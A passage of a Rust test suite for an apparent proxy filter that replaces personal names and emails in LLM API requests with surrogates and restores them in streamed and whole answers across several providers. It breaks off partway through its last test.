use super::*;
use crate::config::FilterConfig;
use crate::fake_host::FakeHost;
use crate::metrics::{self, Metrics};
use crate::test_support::*;
use crate::vault::WorkerVault;
use latet_core::detect::Detectors;
use latet_core::kind::Kind;
use std::collections::BTreeMap;

fn worker_with(host: &FakeHost, extra: &str) -> Rc<Worker> {
    let json =
        format!(r#"{{"controlCluster": "latet_control", "gatewayToken": "tok-123"{extra}}}"#);
    let config = FilterConfig::parse(json.as_bytes(), |_| None).unwrap();
    let vault = WorkerVault::new(Detectors::new(&config.detectors).unwrap(), 1 << 20);
    Rc::new(Worker::new(Rc::new(config), vault, Metrics::define(host)))
}

fn chat(text: &str) -> Vec<u8> {
    serde_json::json!({"model": "m", "messages": [{"role": "user", "content": text}]})
        .to_string()
        .into_bytes()
}

const CHAT: &[(&str, &str)] = &[
    (":method", "POST"),
    (":path", "/v1/chat/completions"),
    ("content-type", "application/json"),
    ("content-length", "100"),
    ("accept-encoding", "gzip"),
];

/// Runs a request through headers and body; returns the body callback's flow.
fn send(host: &FakeHost, ex: &mut Exchange, headers: &[(&str, &str)], body: &[u8]) -> Flow {
    host.set_request(headers, body);
    assert_eq!(ex.on_request_headers(host, false), Flow::Continue);
    ex.on_request_body(host, body.len(), true)
}

fn request_body(host: &FakeHost) -> String {
    String::from_utf8(host.request_body.borrow().clone()).unwrap()
}

fn ready_host() -> FakeHost {
    let host = FakeHost::alone();
    publish(&host, 1, 1, vec![mario()], &[]);
    host
}

#[test]
fn headers_lose_content_length_and_accept_encoding() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    host.set_request(CHAT, b"");
    assert_eq!(ex.on_request_headers(&host, false), Flow::Continue);
    assert_eq!(host.request_header("content-length"), None);
    assert_eq!(host.request_header("accept-encoding"), None);
    assert_eq!(
        host.request_header("content-type").as_deref(),
        Some("application/json")
    );
    assert_eq!(ex.provider.name(), "openai-chat");
}

/// (extra config, headers, body, vault published?, status, error type)
type RefusalCase<'a> = (
    &'a str,
    Vec<(&'a str, &'a str)>,
    Vec<u8>,
    bool,
    u16,
    &'a str,
);

#[test]
fn refusals_answer_json_and_forward_nothing() {
    // (extra config, headers, body, vault published?, status, error type)
    let big = chat(&"x".repeat(200));
    let cases: Vec<RefusalCase> = vec![
        (
            "",
            vec![
                (":path", "/v1/chat/completions"),
                ("content-encoding", "gzip"),
            ],
            chat("hi"),
            true,
            415,
            "latet_encoded_body",
        ),
        (
            r#", "bodyLimitBytes": 100"#,
            CHAT.to_vec(),
            big,
            true,
            413,
            "latet_body_too_large",
        ),
        (
            "",
            CHAT.to_vec(),
            chat("Mario Rossi"),
            false,
            503,
            "latet_vault_not_ready",
        ),
        (
            "",
            CHAT.to_vec(),
            b"{not json".to_vec(),
            true,
            400,
            "latet_bad_body",
        ),
    ];
    for (extra, headers, body, published, status, error_type) in cases {
        let host = if published {
            ready_host()
        } else {
            FakeHost::alone()
        };
        let mut ex = Exchange::new(worker_with(&host, extra));
        host.set_request(&headers, &body);
        let mut flow = ex.on_request_headers(&host, false);
        if flow == Flow::Continue {
            flow = ex.on_request_body(&host, body.len(), true);
        }
        assert_eq!(flow, Flow::Pause, "{error_type}");
        let replies = host.replies.borrow();
        assert_eq!(replies.len(), 1, "{error_type}");
        assert_eq!(replies[0].0, status);
        let json: serde_json::Value = serde_json::from_str(&replies[0].1).unwrap();
        assert_eq!(json["error"]["type"], error_type);
        assert!(!replies[0].1.contains("Mario"));
        assert_eq!(*host.request_body.borrow(), body, "body untouched");
        assert!(ex.replied());
        // Counted under its cause, and under no other.
        for &listed in metrics::REFUSALS {
            let expected = i64::from(listed.error_type() == error_type);
            let name = metrics::refused_name(listed);
            assert_eq!(host.metric(&name), expected, "{error_type}: {name}");
        }
        // The local reply passes through our own response callbacks untouched.
        host.set_response(
            &[("content-type", "application/json")],
            replies[0].1.as_bytes(),
        );
        drop(replies);
        assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
        assert_eq!(host.response_header(RESTORE_HEADER), None);
    }
}

#[test]
fn a_body_is_buffered_until_its_end_then_masked() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    let mut ex = Exchange::new(Rc::clone(&worker));
    let body = chat("Call Mario Rossi tomorrow");
    host.set_request(CHAT, &body);
    ex.on_request_headers(&host, false);
    assert_eq!(ex.on_request_body(&host, 10, false), Flow::Pause);
    assert_eq!(ex.on_request_body(&host, body.len(), true), Flow::Continue);
    let sent = request_body(&host);
    assert!(sent.contains("Call Laura Bianchi tomorrow"), "{sent}");
    assert!(!sent.contains("Mario"));
    assert_eq!(host.metric(metrics::REQUESTS_MASKED), 1);
    assert_eq!(host.metric(metrics::VALUES_MASKED), 1);
    assert_eq!(host.resumed.get(), 0, "not paused, so not resumed");
}

#[test]
fn catch_up_applies_a_forget_before_the_body_is_masked() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    let text = "Mario Rossi asked again about the invoice of last month.";
    let mut ex = Exchange::new(Rc::clone(&worker));
    send(&host, &mut ex, CHAT, &chat(text));
    assert!(request_body(&host).contains("Laura Bianchi"));
    // The forget is published between two requests; the value comes back
    // with a new-generation surrogate.
    let new_mario = entry(9, "Mario Rossi", "Sara Galli", Kind::Name, 2);
    publish_events(
        &host,
        1,
        &[forgotten(2, &mario(), 2), added(3, vec![new_mario])],
    );
    let mut ex = Exchange::new(Rc::clone(&worker));
    assert_eq!(send(&host, &mut ex, CHAT, &chat(text)), Flow::Continue);
    let sent = request_body(&host);
    assert!(
        sent.contains("Sara Galli") && !sent.contains("Laura Bianchi"),
        "{sent}"
    );
    assert_eq!(host.metric(metrics::FORGET_EVENTS_APPLIED), 1);
}

const NEW_MAIL: &str = "anna.verdi@gmail.com";

fn entries_answer(generation: u64) -> CalloutAnswer {
    let answer = latet_core::wire::EntriesResponse {
        version: 1,
        generation,
        entries: vec![entry(
            7,
            NEW_MAIL,
            "elena.fontana@gmail.com",
            Kind::Email,
            generation,
        )],
    };
    CalloutAnswer {
        status: 200,
        body: serde_json::to_vec(&answer).unwrap(),
        etag: None,
        body_left: 0,
    }
}

#[test]
fn new_values_pause_for_one_callout_then_resume_masked() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    assert_eq!(
        send(&host, &mut ex, CHAT, &chat(&format!("mail {NEW_MAIL} now"))),
        Flow::Pause
    );
    let call = host.last_callout().unwrap();
    assert_eq!(call.header(":method"), Some("POST"));
    assert_eq!(call.header(":path"), Some(ENTRIES_PATH));
    assert_eq!(call.header("authorization"), Some("Bearer tok-123"));
    let request: EntriesRequest = serde_json::from_slice(call.body.as_ref().unwrap()).unwrap();
    assert_eq!(request.values.len(), 1);
    assert_eq!(request.values[0].kind, Kind::Email);
    // Further body callbacks while waiting stay paused.
    assert_eq!(ex.on_request_body(&host, 10, true), Flow::Pause);
    ex.on_callout(&host, call.token, &entries_answer(1));
    assert_eq!(host.resumed.get(), 1);
    let sent = request_body(&host);
    assert!(
        sent.contains("elena.fontana@gmail.com") && !sent.contains(NEW_MAIL),
        "{sent}"
    );
    assert_eq!(host.metric(metrics::ENTRIES_CALLOUTS), 1);
    assert_eq!(host.metric(metrics::NEW_VALUES), 1);
    // A callout answer for another token changes nothing.
    ex.on_callout(&host, 999, &entries_answer(1));
    assert_eq!(host.resumed.get(), 1);
}

#[test]
fn failure_modes_reject_or_redact() {
    let failures = [
        CalloutAnswer {
            status: 503,
            body: vec![],
            etag: None,
            body_left: 0,
        },
        CalloutAnswer {
            status: 200,
            body: b"garbage".to_vec(),
            etag: None,
            body_left: 0,
        },
    ];
    for answer in failures {
        // reject (default): 503, nothing forwarded.
        let host = ready_host();
        let mut ex = Exchange::new(worker_with(&host, ""));
        let body = chat(&format!("mail {NEW_MAIL}"));
        send(&host, &mut ex, CHAT, &body);
        let token = host.last_callout().unwrap().token;
        ex.on_callout(&host, token, &answer);
        assert_eq!(host.replies.borrow()[0].0, 503);
        assert!(host.replies.borrow()[0]
            .1
            .contains("latet_entries_unavailable"));
        assert_eq!(host.resumed.get(), 0);
        assert_eq!(*host.request_body.borrow(), body);
        assert_eq!(
            host.metric(&metrics::refused_name(Refusal::EntriesUnavailable)),
            1
        );
        assert_eq!(host.metric(metrics::ENTRIES_CALLOUT_FAILURES), 1);

        // redact: placeholder, forwarded.
        let host = ready_host();
        let mut ex = Exchange::new(worker_with(&host, r#", "failureMode": "redact""#));
        send(
            &host,
            &mut ex,
            CHAT,
            &chat(&format!("mail {NEW_MAIL} and Mario Rossi")),
        );
        let token = host.last_callout().unwrap().token;
        ex.on_callout(&host, token, &answer);
        assert_eq!(host.resumed.get(), 1);
        let sent = request_body(&host);
        assert!(
            sent.contains("[EMAIL]") && !sent.contains(NEW_MAIL),
            "{sent}"
        );
        assert!(sent.contains("Laura Bianchi"));
        assert_eq!(host.metric(metrics::REQUESTS_REDACTED), 1);
    }
    // A callout that cannot even be dispatched takes the failure mode at once.
    let host = ready_host();
    host.dispatch_fails.set(true);
    let mut ex = Exchange::new(worker_with(&host, ""));
    assert_eq!(
        send(&host, &mut ex, CHAT, &chat(&format!("mail {NEW_MAIL}"))),
        Flow::Pause
    );
    assert_eq!(host.replies.borrow()[0].0, 503);
}

#[test]
fn entries_made_stale_by_a_forget_are_asked_for_again() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(&host, &mut ex, CHAT, &chat(&format!("mail {NEW_MAIL}")));
    let first = host.last_callout().unwrap().token;
    // A forget moves the vault to generation 2 while the call is out.
    publish_events(&host, 1, &[forgotten(2, &mario(), 2)]);
    ex.on_callout(&host, first, &entries_answer(1));
    let second = host.last_callout().unwrap().token;
    assert_ne!(first, second, "asked again");
    assert_eq!(host.resumed.get(), 0);
    ex.on_callout(&host, second, &entries_answer(2));
    assert_eq!(host.resumed.get(), 1);
    assert!(request_body(&host).contains("elena.fontana@gmail.com"));
}

#[test]
fn whole_answers_are_restored_at_the_end_of_the_stream() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(&host, &mut ex, CHAT, &chat("Mario Rossi"));
    let answer = br#"{"choices":[{"message":{"content":"Dear Laura Bianchi, done."}}]}"#;
    host.set_response(
        &[
            ("content-type", "application/json"),
            ("content-length", "70"),
        ],
        answer,
    );
    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
    assert_eq!(host.response_header("content-length"), None);
    assert_eq!(ex.on_response_body(&host, 20, false), Flow::Pause);
    assert_eq!(
        ex.on_response_body(&host, answer.len(), true),
        Flow::Continue
    );
    let body = String::from_utf8(host.response_body.borrow().clone()).unwrap();
    assert!(body.contains("Dear Mario Rossi, done."), "{body}");
    assert_eq!(host.metric(metrics::RESTORED), 1);
}

#[test]
fn streams_are_restored_chunk_by_chunk() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(&host, &mut ex, CHAT, &chat("Mario Rossi"));
    host.set_response(&[("content-type", "text/event-stream")], b"");
    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
    let event = |text: &str| {
        format!(
            "data: {}\n\n",
            serde_json::json!({"choices": [{"index": 0, "delta": {"content": text}}]})
        )
    };
    // The surrogate is split across two events and two chunks.
    let chunks = [
        event("Hello Laura Bi"),
        event("anchi, welcome"),
        "data: [DONE]\n\n".to_string(),
    ];
    let mut out = String::new();
    for chunk in &chunks {
        host.set_response(&[], chunk.as_bytes());
        assert_eq!(
            ex.on_response_body(&host, chunk.len(), false),
            Flow::Continue
        );
        out.push_str(&String::from_utf8(host.response_body.borrow().clone()).unwrap());
    }
    host.set_response(&[], b"");
    assert_eq!(ex.on_response_body(&host, 0, true), Flow::Continue);
    out.push_str(&String::from_utf8(host.response_body.borrow().clone()).unwrap());
    let text: String = out
        .split("\n\n")
        .filter_map(|e| e.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<serde_json::Value>(d).ok())
        .filter_map(|v| {
            v["choices"][0]["delta"]["content"]
                .as_str()
                .map(str::to_string)
        })
        .collect();
    assert_eq!(text, "Hello Mario Rossi, welcome", "{out}");
    assert!(!out.contains("Laura"), "{out}");
    assert!(out.ends_with("data: [DONE]\n\n"), "{out}");
    assert_eq!(host.metric(metrics::RESTORED), 1);
}

/// Feeds `chunks` as answer body pieces, then the end; what went out.
fn answer_in_chunks(host: &FakeHost, ex: &mut Exchange, chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut out = Vec::new();
    for chunk in chunks {
        host.set_response(&[], chunk);
        assert_eq!(
            ex.on_response_body(host, chunk.len(), false),
            Flow::Continue
        );
        out.extend(host.response_body.borrow().iter());
    }
    host.set_response(&[], b"");
    assert_eq!(ex.on_response_body(host, 0, true), Flow::Continue);
    out.extend(host.response_body.borrow().iter());
    out
}

/// Bedrock ConverseStream: event-stream frames, split mid-frame, restored
/// and framed again (every CRC checked on the way out); a broken frame is
/// never forwarded and its log line names the offset, not the value.
#[test]
fn event_stream_answers_are_restored_frame_by_frame() {
    use latet_core::eventstream::{encode_event, FrameReader};
    const BEDROCK: &[(&str, &str)] = &[
        (":method", "POST"),
        (
            ":path",
            "/model/anthropic.claude-3-haiku-20240307-v1%3A0/converse-stream",
        ),
        ("content-type", "application/json"),
    ];
    let body = br#"{"messages":[{"role":"user","content":[{"text":"Mario Rossi"}]}]}"#;
    let delta = |text: &str| {
        encode_event(
            "contentBlockDelta",
            serde_json::json!({"contentBlockIndex": 0, "delta": {"text": text}, "p": "abc"})
                .to_string()
                .as_bytes(),
        )
    };
    let stop = encode_event("contentBlockStop", br#"{"contentBlockIndex":0}"#);
    for broken in [false, true] {
        let host = ready_host();
        let mut ex = Exchange::new(worker_with(&host, ""));
        send(&host, &mut ex, BEDROCK, body);
        assert!(request_body(&host).contains("Laura Bianchi"));
        host.set_response(
            &[("content-type", "application/vnd.amazon.eventstream")],
            b"",
        );
        assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
        let mut stream = [
            delta("Hello Laura Bi"),
            delta("anchi, welcome"),
            stop.clone(),
        ]
        .concat();
        if broken {
            let last = stream.len() - 2;
            stream[last] ^= 1;
        }
        let chunks: Vec<Vec<u8>> = stream.chunks(7).map(<[u8]>::to_vec).collect();
        let out = answer_in_chunks(&host, &mut ex, &chunks);
        let mut reader = FrameReader::default();
        reader.push(&out);
        let mut text = String::new();
        let mut kinds = Vec::new();
        while let Some(frame) = reader.next_frame().unwrap() {
            let frame = frame.decode().unwrap();
            let payload: serde_json::Value = serde_json::from_slice(&frame.payload).unwrap();
            text.push_str(payload["delta"]["text"].as_str().unwrap_or_default());
            kinds.push(frame.message_type().unwrap_or_default().to_string());
        }
        assert_eq!(reader.held_bytes(), 0, "only whole frames go out");
        assert_eq!(text, "Hello Mario Rossi, welcome");
        assert_eq!(host.metric(metrics::RESTORED), 1);
        let logs: Vec<String> = host.logs.borrow().iter().map(|(_, l)| l.clone()).collect();
        let logs = logs.join("\n");
        if broken {
            assert_eq!(kinds.last().map(String::as_str), Some("exception"));
            assert!(logs.contains("answer stream broken off"), "{logs}");
            assert!(!logs.contains("Mario") && !logs.contains("Laura"), "{logs}");
        } else {
            assert!(kinds.iter().all(|k| k == "event"), "{kinds:?}");
        }
    }
}

/// Gemini's JSON-array stream: elements restored as they complete, the
/// answer still one JSON array.
#[test]
fn json_array_streams_are_restored_element_by_element() {
    const GEMINI: &[(&str, &str)] = &[
        (":method", "POST"),
        (
            ":path",
            "/v1beta/models/gemini-2.5-flash:streamGenerateContent",
        ),
        ("content-type", "application/json"),
    ];
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let body = br#"{"contents":[{"role":"user","parts":[{"text":"Mario Rossi"}]}]}"#;
    send(&host, &mut ex, GEMINI, body);
    assert!(request_body(&host).contains("Laura Bianchi"));
    host.set_response(&[("content-type", "application/json; charset=UTF-8")], b"");
    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
    let chunk = |text: &str| {
        serde_json::json!({"candidates": [{"content": {"role": "model", "parts": [{"text": text}]}}]})
            .to_string()
    };
    let first = format!("[{}", chunk("Hello Laura Bi"));
    let second = format!("\n,\r\n{}", chunk("anchi, welcome"));
    let chunks = vec![first.into_bytes(), second.into_bytes(), b"\n]".to_vec()];
    let out = answer_in_chunks(&host, &mut ex, &chunks);
    let array: Vec<serde_json::Value> = serde_json::from_slice(&out).unwrap();
    let text: String = array
        .iter()
        .filter_map(|c| c["candidates"][0]["content"]["parts"][0]["text"].as_str())
        .collect();
    assert_eq!(text, "Hello Mario Rossi, welcome");
}

/// A batch input file uploaded through `/v1/files`: multipart, each part
/// examined; a JSON line masked as the API its `url` names.
#[test]
fn multipart_uploads_are_masked_part_by_part() {
    const FILES: &[(&str, &str)] = &[
        (":method", "POST"),
        (":path", "/v1/files"),
        ("content-type", "multipart/form-data; boundary=b0undary"),
    ];
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let body = "--b0undary\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n\
        --b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"Mario Rossi.jsonl\"\r\n\r\n\
        {\"custom_id\":\"1\",\"url\":\"/v1/chat/completions\",\"body\":{\"messages\":[{\"role\":\"user\",\"content\":\"Mario Rossi\"}]}}\n\r\n\
        --b0undary--\r\n";
    assert_eq!(send(&host, &mut ex, FILES, body.as_bytes()), Flow::Continue);
    let sent = request_body(&host);
    assert!(!sent.contains("Mario Rossi"), "{sent}");
    assert!(sent.contains("filename=\"Laura Bianchi.jsonl\""), "{sent}");
    assert!(sent.contains(r#""content":"Laura Bianchi""#), "{sent}");
    assert!(sent.ends_with("--b0undary--\r\n"));
}

#[test]
fn a_stale_feed_leaves_surrogates_and_says_so() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, r#", "restoreMaxStalenessMs": 30000"#));
    send(&host, &mut ex, CHAT, &chat("Mario Rossi"));
    host.advance(30_001);
    let answer = br#"{"text":"Laura Bianchi"}"#;
    host.set_response(&[("content-type", "application/json")], answer);
    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
    assert_eq!(
        host.response_header(RESTORE_HEADER).as_deref(),
        Some("stale")
    );
    assert_eq!(
        ex.on_response_body(&host, answer.len(), true),
        Flow::Continue
    );
    assert_eq!(host.response_body.borrow().as_slice(), answer);
    assert_eq!(host.metric(metrics::RESTORE_STALE), 1);
    assert_eq!(host.metric(metrics::FEED_AGE_SECONDS), 30);
}

#[test]
fn no_log_line_holds_a_value() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(
        &host,
        &mut ex,
        CHAT,
        &chat(&format!("Mario Rossi {NEW_MAIL}")),
    );
    let token = host.last_callout().unwrap().token;
    ex.on_callout(
        &host,
        token,
        &CalloutAnswer {
            status: 500,
            body: vec![],
            etag: None,
            body_left: 0,
        },
    );
    let mut ex = Exchange::new(worker_with(&host, ""));
    send(&host, &mut ex, CHAT, b"{\"messages\": [\"Mario Rossi");
    let logs = host.all_logs();
    assert!(!logs.is_empty());
    for value in ["Mario", "Laura", "anna.verdi", "tok-123"] {
        assert!(!logs.contains(value), "{logs}");
    }
}

fn state_reads(host: &FakeHost) -> usize {
    host.shared_reads
        .borrow()
        .iter()
        .filter(|k| k.as_str() == crate::shared::STATE_KEY)
        .count()
}

fn reads_of_other_keys(host: &FakeHost) -> Vec<String> {
    host.shared_reads
        .borrow()
        .iter()
        .filter(|k| k.as_str() != crate::shared::STATE_KEY)
        .cloned()
        .collect()
}

/// Runs one whole exchange: request, then a JSON answer echoing `answer`.
fn exchange_once(host: &FakeHost, worker: &Rc<Worker>, text: &str, answer: &str) -> String {
    let mut ex = Exchange::new(Rc::clone(worker));
    assert_eq!(send(host, &mut ex, CHAT, &chat(text)), Flow::Continue);
    let answer = serde_json::json!({"text": answer}).to_string();
    host.set_response(&[("content-type", "application/json")], answer.as_bytes());
    assert_eq!(ex.on_response_headers(host, false), Flow::Continue);
    assert_eq!(
        ex.on_response_body(host, answer.len(), true),
        Flow::Continue
    );
    String::from_utf8(host.response_body.borrow().clone()).unwrap()
}

#[test]
fn a_request_reads_the_state_record_once_per_direction_and_nothing_else_when_current() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    // The first exchange catches up for real (snapshot, events).
    exchange_once(&host, &worker, "Mario Rossi", "Laura Bianchi");
    host.shared_reads.borrow_mut().clear();
    host.body_reads.borrow_mut().clear();
    let answer = exchange_once(&host, &worker, "Mario Rossi again", "Laura Bianchi again");
    assert!(answer.contains("Mario Rossi again"), "{answer}");
    assert!(request_body(&host).contains("Laura Bianchi again"));
    // One read before the headers are masked, one before the body is, one
    // before the answer is restored.
    assert_eq!(state_reads(&host), 3);
    assert_eq!(reads_of_other_keys(&host), Vec::<String>::new());
    // Each body is copied into the VM once.
    assert_eq!(host.body_reads.borrow().len(), 2);
}

#[test]
fn a_forget_published_after_a_cheap_catch_up_is_applied_before_the_next_body_and_answer() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    // Two exchanges: the second one goes through the cheap path.
    exchange_once(&host, &worker, "Mario Rossi", "Laura Bianchi");
    exchange_once(&host, &worker, "Mario Rossi", "Laura Bianchi");
    publish_events(&host, 1, &[forgotten(2, &mario(), 2)]);
    // The answer of an exchange whose request was masked before the forget
    // must not restore the retired surrogate.
    let mut ex = Exchange::new(Rc::clone(&worker));
    let answer = br#"{"text":"Laura Bianchi"}"#;
    host.set_response(&[("content-type", "application/json")], answer);
    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
    ex.on_response_body(&host, answer.len(), true);
    let out = String::from_utf8(host.response_body.borrow().clone()).unwrap();
    assert!(!out.contains("Mario"), "{out}");
    assert_eq!(host.metric(metrics::FORGET_EVENTS_APPLIED), 1);
    assert_eq!(host.metric(metrics::RESTORE_DECLINED_RETIRED), 1);
    // And the next request's body no longer gets the old surrogate (a name:
    // only the vault knew it, so it goes as written).
    let mut ex = Exchange::new(Rc::clone(&worker));
    send(&host, &mut ex, CHAT, &chat("Mario Rossi"));
    assert!(!request_body(&host).contains("Laura Bianchi"));
}

#[test]
fn the_state_record_rewritten_unchanged_costs_no_parse_of_the_events() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    exchange_once(&host, &worker, "Mario Rossi", "Laura Bianchi");
    // The same bytes written again (a new CAS, same content).
    let state = host.shared_value(crate::shared::STATE_KEY).unwrap();
    host.put_shared(crate::shared::STATE_KEY, &state);
    host.shared_reads.borrow_mut().clear();
    exchange_once(&host, &worker, "Mario Rossi", "Laura Bianchi");
    assert_eq!(reads_of_other_keys(&host), Vec::<String>::new());
}

#[test]
fn a_vault_not_current_reads_no_body() {
    let host = FakeHost::alone();
    let worker = worker_with(&host, "");
    let mut ex = Exchange::new(worker);
    host.set_request(CHAT, &chat("Mario Rossi"));
    // Refused at the headers: they are examined too, against a vault that
    // is not there yet.
    assert_eq!(ex.on_request_headers(&host, false), Flow::Pause);
    assert_eq!(
        ex.on_request_body(&host, chat("Mario Rossi").len(), true),
        Flow::Pause
    );
    assert_eq!(host.replies.borrow().len(), 1);
    assert_eq!(host.replies.borrow()[0].0, 503);
    assert!(host.body_reads.borrow().is_empty());
}

#[test]
fn an_empty_vault_passes_answers_through_unbuffered() {
    let host = FakeHost::alone();
    publish(&host, 1, 1, vec![], &[]);
    let mut ex = Exchange::new(worker_with(&host, ""));
    assert_eq!(send(&host, &mut ex, CHAT, &chat("hello")), Flow::Continue);
    host.set_response(
        &[
            ("content-type", "application/json"),
            ("content-length", "12"),
        ],
        br#"{"text":"x"}"#,
    );
    assert_eq!(ex.on_response_headers(&host, false), Flow::Continue);
    // Not buffered: the first chunk goes on, content-length stays.
    assert_eq!(ex.on_response_body(&host, 5, false), Flow::Continue);
    assert_eq!(
        host.response_header("content-length").as_deref(),
        Some("12")
    );
    assert_eq!(host.body_reads.borrow().len(), 1, "only the request body");
}

#[test]
fn a_vault_holding_only_retired_surrogates_still_declines_them() {
    let host = ready_host();
    let worker = worker_with(&host, "");
    publish_events(&host, 1, &[forgotten(2, &mario(), 2)]);
    let out = exchange_once(&host, &worker, "hello", "Laura Bianchi");
    assert!(out.contains("Laura Bianchi"), "{out}");
    assert_eq!(host.metric(metrics::RESTORE_DECLINED_RETIRED), 1);
}

fn header_of(host: &FakeHost, name: &str) -> Vec<String> {
    host.request_headers
        .borrow()
        .iter()
        .filter(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.clone())
        .collect()
}

/// Deny by default outside the body: header values, path segments and
/// query components are examined and masked in place; credentials in
/// credential form, `:method` and `:scheme` are kept as sent.
#[test]
fn headers_path_and_query_are_masked_credentials_kept() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let headers = [
        (":method", "POST"),
        (
            ":path",
            "/v1/chat/completions/Mario%20Rossi?user=Mario+Rossi&q=ok",
        ),
        ("authorization", "Bearer sk-proj-Mario Rossi"),
        ("x-customer", "Mario Rossi"),
        ("cookie", "a=1"),
        ("cookie", "who=Mario Rossi"),
        ("user-agent", "agent/1.0"),
    ];
    assert_eq!(
        send(&host, &mut ex, &headers, &chat("hello")),
        Flow::Continue
    );
    assert_eq!(
        header_of(&host, ":path"),
        ["/v1/chat/completions/Laura%20Bianchi?user=Laura%20Bianchi&q=ok"]
    );
    assert_eq!(header_of(&host, "x-customer"), ["Laura Bianchi"]);
    // A repeated header keeps every value, in order.
    assert_eq!(header_of(&host, "cookie"), ["a=1", "who=Laura Bianchi"]);
    assert_eq!(header_of(&host, "user-agent"), ["agent/1.0"]);
    // The credential is the provider's: it arrives as sent.
    assert_eq!(
        header_of(&host, "authorization"),
        ["Bearer sk-proj-Mario Rossi"]
    );
    assert!(host.replies.borrow().is_empty());
}

#[test]
fn a_value_in_a_header_name_or_with_header_findings_refuse_is_refused() {
    for (extra, headers) in [
        (
            "",
            vec![(":path", "/v1/chat/completions"), ("Mario Rossi", "1")],
        ),
        (
            r#", "headerFindings": "refuse""#,
            vec![(":path", "/v1/chat/completions"), ("x-who", "Mario Rossi")],
        ),
        (
            r#", "headerFindings": "refuse""#,
            vec![(":path", "/v1/chat/completions?u=Mario%20Rossi")],
        ),
    ] {
        let host = ready_host();
        let mut ex = Exchange::new(worker_with(&host, extra));
        host.set_request(&headers, &chat("hello"));
        assert_eq!(
            ex.on_request_headers(&host, false),
            Flow::Pause,
            "{headers:?}"
        );
        let replies = host.replies.borrow();
        assert_eq!(replies.len(), 1);
        assert_eq!(replies[0].0, 422);
        assert!(
            replies[0].1.contains("latet_value_in_header"),
            "{}",
            replies[0].1
        );
        assert!(!replies[0].1.contains("Mario"));
        // The access log will not print the unexamined path.
        assert_eq!(header_of(&host, ":path"), [crate::exchange::REFUSED_PATH]);
    }
}

#[test]
fn a_new_value_in_a_header_pauses_the_headers_for_entries() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let headers = [(":path", "/v1/chat/completions"), ("x-mail", NEW_MAIL)];
    host.set_request(&headers, &chat("hello"));
    assert_eq!(ex.on_request_headers(&host, false), Flow::Pause);
    let call = host.last_callout().unwrap();
    // The body waits too.
    assert_eq!(ex.on_request_body(&host, 10, true), Flow::Pause);
    ex.on_callout(&host, call.token, &entries_answer(1));
    assert_eq!(host.resumed.get(), 1);
    assert_eq!(header_of(&host, "x-mail"), ["elena.fontana@gmail.com"]);
    // The body goes on as usual afterwards.
    let body = chat(&format!("again {NEW_MAIL}"));
    host.set_request(&headers, &body);
    assert_eq!(ex.on_request_body(&host, body.len(), true), Flow::Continue);
    assert!(request_body(&host).contains("elena.fontana@gmail.com"));
}

/// A body followed by trailers never carries its end: the trailers end it.
/// The body is masked then (never forwarded unexamined), and the trailers
/// are examined too: a new value there becomes a placeholder.
#[test]
fn trailers_end_the_body_and_are_masked() {
    let host = ready_host();
    let mut ex = Exchange::new(worker_with(&host, ""));
    let body = chat("Mario Rossi");
    host.set_request(CHAT, &body);
    assert_eq!(ex.on_request_headers(&host, false), Flow::Continue);
    assert_eq!(ex.on_request_body(&host, body.len(), false), Flow::Pause);
    *host.request_trailers.borrow_mut() = vec![
        ("x-trace".to_string(), "Mario Rossi".to_string()),
        ("x-mail".to_string(), NEW_MAIL.to_string()),
    ];
    assert_eq!(ex.on_request_trailers(&host), Flow::Continue);
    assert!(request_body(&host).contains("Laura Bianchi"));
    assert!(!request_body(&host).contains("Mario Rossi"));
    let trailers = host.request_trailers.borrow().clone();
    assert!(trailers.contains(&("x-trace".to_string(), "Laura Bianchi".to_string())));
    assert!(trailers.contains(&("x-mail".to_string(), "[EMAIL]".to_string())));
    assert!(host.callouts.borrow().is_empty());
}

#[test]
fn an_answer_restores_only_the_values_its_request_sent() {
    // The surrogate oracle: a request that only carries a surrogate (seen
    // in a provider's log) must not get its value back.
    let host = ready_host();
    let worker = worker_with(&host, "");
    let answer = exchange_once(&host, &worker, "repeat: Laura Bianchi", "Laura Bianchi");
    assert!(answer.contains("Laura Bianchi"), "{answer}");
    assert!(!answer.contains("Mario"), "{answer}");
    assert_eq!(host.metric(metrics::RESTORE_DECLINED_OUT_OF_SCOPE), 1);
    assert_eq!(host.metric(metrics::RESTORED), 0);
    // The agent sent the value: its answer restores it.
    let answer = exchange_once(&host, &worker, "I am Mario Rossi", "Hi Laura Bianchi");
    assert!(answer.contains("Hi Mario Rossi"), "{answer}");
    assert_eq!(host.metric(metrics::RESTORED), 1);
    // The next request did not send it again: out of scope again.
    let answer = exchange_once(&host, &worker, "and now?", "Laura Bianchi");
    assert!(!answer.contains("Mario"), "{answer}");
    assert_eq!(host.metric(metrics::RESTORE_DECLINED_OUT_OF_SCOPE), 2);
    // `restoreScope: vault`: every active surrogate, as before.
    let host = ready_host();
